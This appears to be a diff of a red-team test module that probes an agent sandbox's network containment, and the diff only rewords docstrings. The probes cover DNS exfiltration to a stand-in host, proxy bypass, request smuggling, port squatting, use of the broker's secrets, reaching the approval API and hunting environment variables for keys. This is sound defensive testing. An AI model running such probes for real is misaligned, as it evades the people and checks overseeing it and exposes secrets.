@@ -1,4 +1,4 @@
-"""Attempts on the network: past the doors, through the egress door, and at the broker's."""
+"""Attempts on the network: around the doors, through the egress door, and at the broker."""
 
 from __future__ import annotations
 
@@ -72,7 +72,7 @@ MANAGEMENT = (
 
 
 def _say(port: int, request: bytes) -> str:
-    """What a door answers, its first line; "closed" when it says nothing."""
+    """Return the first line of a door's answer; "closed" without one."""
     with socket.create_connection(("127.0.0.1", port), SECONDS) as door:
         door.settimeout(SECONDS)
         door.sendall(request)
@@ -81,7 +81,7 @@ def _say(port: int, request: bytes) -> str:
 
 
 def _passed(line: str) -> str | None:
-    """None for a refusal: a status of 400 or more, or a closed connection."""
+    """Return None for a refusal: a status of 400 or more, or a closed connection."""
     words = line.split()
     if len(words) < 2 or not words[1].isdigit():
         return None if line == "closed" else line
@@ -110,7 +110,7 @@ def _get(target: str, host: str, more: str = "") -> bytes:
 
 
 def straight_out(_facts: Facts) -> str:
-    """Threats 61, 77: leaving without a door, by TCP, UDP and ICMP."""
+    """Leave without a door, by TCP, UDP and ICMP (threats 61, 77)."""
 
     def reach(address: tuple[str, int], kind: int) -> Callable[[], object]:
         def act() -> object:
@@ -145,7 +145,7 @@ def _interfaces() -> object:
 
 
 def lookups(_facts: Facts) -> str:
-    """Threat 62: letting a resolver carry words out."""
+    """Send words out by a resolver (threat 62)."""
 
     def look() -> object:
         return socket.getaddrinfo("secret.atoll-redteam.example", 80)
@@ -154,7 +154,8 @@ def lookups(_facts: Facts) -> str:
 
 
 def inward(facts: Facts) -> str:
-    """Threats 64, 74: every spelling of the machine's own and its neighbours' addresses."""
+    """Reach the machine and its neighbours by every spelling of their addresses (threats 64,
+    74)."""
     ports = {22, 80, int(facts.told.get("api_port") or 80)} - set(facts.words("host_ports"))
     tries = []
     for host in INWARD:
@@ -166,7 +167,7 @@ def inward(facts: Facts) -> str:
 
 
 def ports(facts: Facts) -> str:
-    """Threat 67: ports that are on no list, and what is no port."""
+    """Reach ports that are on no list, and values that are no port (threat 67)."""
     if facts.text("mode") == "full":
         raise Skipped("the network mode is full: any port of a public address is allowed")
     odd = ("github.com:22", "github.com:25", "github.com:0", "github.com:443x", "github.com",
@@ -175,7 +176,7 @@ def ports(facts: Facts) -> str:
 
 
 def unlisted(facts: Facts) -> str:
-    """Threat 62: names that are on no list."""
+    """Reach names that are on no list (threat 62)."""
     if facts.text("mode") == "full":
         raise Skipped("the network mode is full")
     name = "c2VjcmV0.atoll-redteam.example"
@@ -186,12 +187,12 @@ def unlisted(facts: Facts) -> str:
 
 
 def providers(_facts: Facts) -> str:
-    """Threat 76: a model provider through the egress door, with a key of one's own."""
+    """Reach a model provider through the egress door, with another key (threat 76)."""
     return got((one, _asked(PROXY, _connect(f"{one}:443"))) for one in PROVIDERS)
 
 
 def smuggling(_facts: Facts) -> str:
-    """Threat 72: requests that two readers could cut in two ways, at both doors."""
+    """Send requests that two readers could split in two ways, at both doors (threat 72)."""
 
     def tries() -> Iterator[tuple[str, Callable[[], object]]]:
         for name, more in CROOKED.items():
@@ -204,7 +205,7 @@ def smuggling(_facts: Facts) -> str:
 
 
 def squatting(_facts: Facts) -> str:
-    """Threat 78: taking a door's port."""
+    """Take a door's port (threat 78)."""
 
     def take(family: int, host: str, port: int) -> Callable[[], object]:
         def act() -> object:
@@ -228,7 +229,7 @@ def squatting(_facts: Facts) -> str:
 
 
 def broker_names(_facts: Facts) -> str:
-    """Threat 89: providers and secrets by other spellings, and what is no inference."""
+    """Use other spellings of providers and secrets, and paths beyond inference (threat 89)."""
     tries = [
         (name, _asked(BROKER, _get(f"/broker/{name}", "127.0.0.1")))
         for name in (*NAMES, *MANAGEMENT)
@@ -241,7 +242,7 @@ def broker_names(_facts: Facts) -> str:
 
 
 def control_plane(facts: Facts) -> str:
-    """Threat 96: reaching the API, where approvals are given."""
+    """Reach the API, where approvals are given (threat 96)."""
     host, port = facts.text("api_host") or "127.0.0.1", int(facts.told.get("api_port") or 80)
 
     def straight() -> object:
@@ -257,7 +258,7 @@ def control_plane(facts: Facts) -> str:
 
 
 def variables(_facts: Facts) -> str:
-    """Environment variables that look like a key and are no placeholder."""
+    """Find environment variables that look like a key and are no placeholder."""
     telling = ("KEY", "TOKEN", "SECRET", "PASSWORD")
     found = [
         name
